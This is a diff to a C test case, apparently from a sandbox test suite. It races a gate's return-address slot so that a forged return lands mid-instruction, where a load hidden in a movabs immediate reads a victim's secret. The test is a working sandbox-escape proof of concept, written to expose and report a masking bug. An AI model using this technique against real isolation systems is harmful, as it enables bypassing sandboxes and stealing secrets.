@@ -7,18 +7,23 @@
  * verified `movabs`, whose immediate hides `mov (%rbx), %rax` (a plain
  * load; %rbx survives the gate and holds the victim's secret's address).
  * The gate returns to its address zero-extended to 32 bits, without C1's
- * low-5-bit mask, so a won race lands mid-instruction: the hidden load
- * runs and `caught` prints what it read. 1 s of racing. Must be
- * contained: a gate returning with C1's mask would land on the bundle
- * start instead (the movabs: harmless). If the race is never won in the
- * time given, the case passes without proving anything: the output says
- * how many calls were made. */
+ * low-5-bit mask (docs/sfi.md C4 says it returns with C1's mask), so a won
+ * race lands mid-instruction: the hidden load runs and `caught` prints
+ * what it read. (A store that hits an ordinary return instead lands,
+ * masked by C3, on the movabs's first byte: caught says so.) Up to 2.5 s
+ * of racing; here it is won in every run, often within 4096 calls. Must
+ * be contained: with C1's mask in the gate the forged return would land
+ * on the bundle start (the movabs: harmless). Fails today: reported. */
 #include "race.h"
 
-static volatile unsigned long slot, stop, forged, stores;
+static volatile unsigned long slot, stop, forged, stores, calls;
 
 __attribute__((used, noreturn)) static void caught(unsigned long v) {
-  say("ESCAPED: the gate returned mid-instruction; the hidden load read ", v);
+  if (v == 0x9090909090038b48ul) /* the movabs ran from its first byte */
+    out("a return landed on the bundle start (masked): contained\n");
+  else
+    say("ESCAPED: the gate returned mid-instruction; the hidden load read ", v);
+  say("gate calls before it, to the next 4096: ", calls + 4096);
   end(0);
 }
 
@@ -47,15 +52,19 @@ int main(int argc, char **argv) {
     out("no thread\n");
     end(1);
   }
-  unsigned long t0 = now_ms(), calls = 0, target = victim_secret(argv);
-  while (now_ms() - t0 < 1000) {
-    /* 4096 gate calls from one %rsp: the slot is %rsp - 8 at each call */
-    __asm__ volatile("mov %%rsp, %%rax\n sub $8, %%rax\n mov %%rax, %1\n"
+  unsigned long t0 = now_ms(), target = victim_secret(argv);
+  while (now_ms() - t0 < 2500) {
+    /* 4096 gate calls from one %rsp, 8 KiB below main's, where no other
+     * call's return address lies: the slot is %rsp - 8 at each call */
+    unsigned long depth = 8192;
+    __asm__ volatile("mov %%rsp, %%r13\n sub %2, %%rsp\n"
+                     "mov %%rsp, %%rax\n sub $8, %%rax\n mov %%rax, %1\n"
                      "mov $4096, %%r12d\n"
-                     "1: mov $39, %%edi\n call *%%gs:0x10000\n dec %%r12d\n jnz 1b"
+                     "1: mov $39, %%edi\n call *%%gs:0x10000\n dec %%r12d\n jnz 1b\n"
+                     "mov %%r13, %%rsp"
                      : "+b"(target), "=m"(slot)
-                     : : "rax", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10", "r11",
-                       "r12", "memory");
+                     : "r"(depth) : "rax", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10", "r11",
+                       "r12", "r13", "memory");
     calls += 4096;
   }
   stop = 1;
